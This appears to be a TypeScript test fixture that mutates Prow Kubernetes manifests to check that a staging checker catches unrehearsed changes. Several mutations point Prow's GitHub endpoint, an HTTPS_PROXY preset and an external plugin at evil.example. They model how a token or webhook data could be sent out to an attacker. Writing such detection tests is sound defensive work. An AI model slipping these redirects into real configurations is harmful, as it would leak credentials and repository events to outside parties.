import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Trick } from '../trick.js';
import { BEFORE, CANDIDATE, type World } from '../world.js';
import { decorate, rehearsed } from './images.js';

const PLANK = 'manifests/prow-controller-manager.yaml';
const PLUGIN = 'manifests/refresh.yaml';
const ENV = '          env: [';

/** Keys that staging makes up in a Secret that nothing shows, as it does the Secret. */
const MADE_UP_KEYS: readonly Trick[] = [
  key('env', 'has Prow read a variable from a key that only staging may have', (world) => {
    for (const side of [world.base, world.head])
      world.edit(
        join(side, PLANK),
        'env: [',
        'env: [{ name: A_TOKEN, valueFrom: { secretKeyRef: { name: elsewhere, key: old-key } } }, ',
      );
  }),
  key('items', 'has Prow mount such a key', (world) => {
    mount(world, 'secret: { secretName: elsewhere, items: [{ key: old-key, path: token }] }');
  }),
  key('flag', 'has a flag of Prow’s name the file of such a key', (world) => {
    mount(world, 'secret: { secretName: elsewhere }');
    for (const side of [world.base, world.head])
      world.edit(join(side, PLANK), ENV, `          args: [--github-token-path=/elsewhere/old-key]\n${ENV}`);
  }),
];

function key(id: string, says: string, bring: (world: World) => unknown): Trick {
  return rehearsed(`key-by-${id}`, says, 'not-staged', (world) => {
    bring(world);
    world.edit(join(world.head, PLANK), 'old-key', 'new-key');
  });
}

function mount(world: World, volume: string): void {
  for (const side of [world.base, world.head]) {
    world.edit(join(side, PLANK), 'volumeMounts: [', 'volumeMounts: [{ name: more, mountPath: /elsewhere }, ');
    world.edit(join(side, PLANK), ' volumes: [', ` volumes: [{ name: more, ${volume} }, `);
  }
}

function cron(id: string, says: string, field: string): Trick {
  const file = 'manifests/sweep.yaml';
  return rehearsed(`cron-${id}`, says, 'not-staged', (world) => {
    for (const side of [world.base, world.head])
      world.write(
        join(side, file),
        `apiVersion: batch/v1
kind: CronJob
metadata: { name: sweep, namespace: prow }
spec:
  schedule: '0 * * * *'
  jobTemplate: { spec: { template: { spec: { restartPolicy: Never, containers: [{ name: sweep, image: 'a:1' }] } } } }
`,
      );
    world.edit(join(world.head, file), '  jobTemplate', `  ${field}\n  jobTemplate`);
  });
}

/** Changes that staging would deploy nothing else for, each rehearsed with the bump. */
export const STAGED_TRICKS: readonly Trick[] = [
  rehearsed('token-elsewhere', 'sends Prow’s token for GitHub elsewhere', 'not-staged', (world) => {
    const args = (address: string) =>
      `          args: [--github-endpoint=${address}, --github-token-path=/etc/github/oauth]\n`;
    for (const side of [world.base, world.head])
      world.edit(join(side, PLANK), ENV, `${args('https://api.github.com')}${ENV}`);
    world.edit(join(world.head, PLANK), 'https://api.github.com', 'https://evil.example');
  }),
  rehearsed('taken-away', 'takes a program away that staging plays', 'not-staged', (world) => {
    rmSync(join(world.head, 'manifests/boskos.yaml'));
  }),
  rehearsed('to-zero', 'has a program that staging plays stand at no replica', 'not-staged', (world) => {
    world.edit(join(world.head, 'manifests/boskos.yaml'), 'replicas: 1', 'replicas: 0');
  }),
  rehearsed(
    'container-taken-away',
    'takes a container away from a plugin that staging plays',
    'not-staged',
    (world) => {
      const beside = "        - { name: auth-proxy, image: 'a:1' }\n";
      for (const side of [world.base, world.head]) appendTo(join(side, PLUGIN), beside);
      world.edit(join(world.head, PLUGIN), beside, '');
    },
  ),
  rehearsed('played-never-pulled', 'has nodes never pull the image of such a plugin', 'not-staged', (world) => {
    append(world, PLUGIN, '          imagePullPolicy: Never\n');
  }),
  rehearsed('played-nowhere', 'has it start in a folder that there may not be', 'not-staged', (world) => {
    append(world, PLUGIN, '          workingDir: /no-such-folder\n');
  }),
  rehearsed('played-gated', 'has it wait for somebody who opens a gate', 'not-staged', (world) => {
    append(world, PLUGIN, '      schedulingGates: [{ name: no-such-gate }]\n');
  }),
  cron('another-zone', 'has a CronJob run by the clock of another place', 'timeZone: Asia/Tokyo'),
  cron('on-top', 'has it begin while the last one still runs', 'concurrencyPolicy: Allow'),
  cron('too-late', 'has it give up on whatever is not begun within a second', 'startingDeadlineSeconds: 1'),
  ...MADE_UP_KEYS,
  rehearsed('utility-taken-away', 'takes one of the utilities of jobs’ pods away', 'not-staged', (world) => {
    decorate(world, BEFORE);
    world.edit(join(world.head, 'config.yaml'), `, sidecar: example.org/prow/sidecar:${BEFORE}`, '');
    world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
  }),
  rehearsed(
    'utility-of-a-cluster',
    'takes those away that one cluster has from its own mirror',
    'not-staged',
    (world) => {
      decorate(world, BEFORE);
      const images = ", utility_images: { sidecar: 'mirror.inside/sidecar:v1' }";
      const entry = `{ cluster: build-tpu, config: { skip_cloning: false${images} } }`;
      for (const side of [world.base, world.head]) world.edit(join(side, 'config.yaml'), '] }\n', `, ${entry}] }\n`);
      world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
      world.edit(join(world.head, 'config.yaml'), images, '');
    },
  ),
  rehearsed('never-pulled', 'has nodes never pull Prow’s image', 'not-staged', (world) => {
    world.edit(join(world.head, PLANK), ENV, `          imagePullPolicy: Never\n${ENV}`);
  }),
  rehearsed('injected', 'has a mesh put a container of somebody’s into Prow’s pod', 'not-staged', (world) => {
    const labels = 'metadata: { labels: { app: prow-controller-manager } }';
    world.edit(join(world.head, PLANK), labels, labels.replace('app:', 'sidecar.istio.io/inject: "true", app:'));
  }),
  rehearsed('played-arguments', 'gives a plugin that staging plays other arguments', 'not-staged', (world) => {
    append(world, 'manifests/refresh.yaml', '          args: [--github-endpoint=https://evil.example]\n');
  }),
  rehearsed('results-elsewhere', 'has jobs’ results kept elsewhere', 'not-staged', (world) => {
    decorate(world, BEFORE);
    for (const side of [world.base, world.head]) {
      world.edit(
        join(side, 'config.yaml'),
        '{ utility_images:',
        '{ gcs_configuration: { bucket: kept }, utility_images:',
      );
    }
    world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
    world.edit(join(world.head, 'config.yaml'), 'bucket: kept', 'bucket: lost');
  }),
  rehearsed('preset', 'gives every job a variable by a preset', 'not-staged', (world) => {
    const preset = 'presets:\n- { labels: {}, env: [{ name: HTTPS_PROXY, value: "https://evil.example" }] }\n';
    world.write(join(world.head, 'jobs/presets.yaml'), preset);
  }),
  rehearsed('external-plugin', 'sends what GitHub tells to somebody else', 'not-staged', (world) => {
    for (const side of [world.base, world.head]) {
      world.edit(join(side, 'production.yaml'), 'config: config.yaml', 'config: config.yaml\nplugins: plugins.yaml');
      const plugin = '{ name: needs-rebase, endpoint: "http://needs-rebase" }';
      world.write(join(side, 'plugins.yaml'), `external_plugins: { example/tools: [${plugin}] }\n`);
    }
    world.edit(join(world.head, 'plugins.yaml'), 'http://needs-rebase', 'https://evil.example');
  }),
  rehearsed('no-such-node', 'has Prow ask for a node that there is not', 'not-staged', (world) => {
    append(world, PLANK, '      nodeSelector: { no-such: node }\n');
  }),
  rehearsed('secret-from-elsewhere', 'has a Secret filled from another place', 'not-staged', (world) => {
    for (const side of [world.base, world.head])
      world.write(join(side, 'manifests/external.yaml'), externalSecret('prow-build'));
    world.edit(join(world.head, 'manifests/external.yaml'), 'prow-build', 'another');
  }),
  rehearsed('brought-by-others', 'brings an object for which no staging cluster has a kind', 'not-staged', (world) => {
    world.write(join(world.head, 'manifests/external.yaml'), externalSecret('prow-build'));
  }),
];

function externalSecret(key: string): string {
  return `apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: kubeconfig-build, namespace: prow }
spec:
  target: { name: kubeconfig-build }
  data: [{ secretKey: kubeconfig, remoteRef: { key: ${key} } }]
`;
}

function append(world: World, path: string, text: string): void {
  appendTo(join(world.head, path), text);
}

function appendTo(file: string, text: string): void {
  writeFileSync(file, `${readFileSync(file, 'utf8')}${text}`);
}
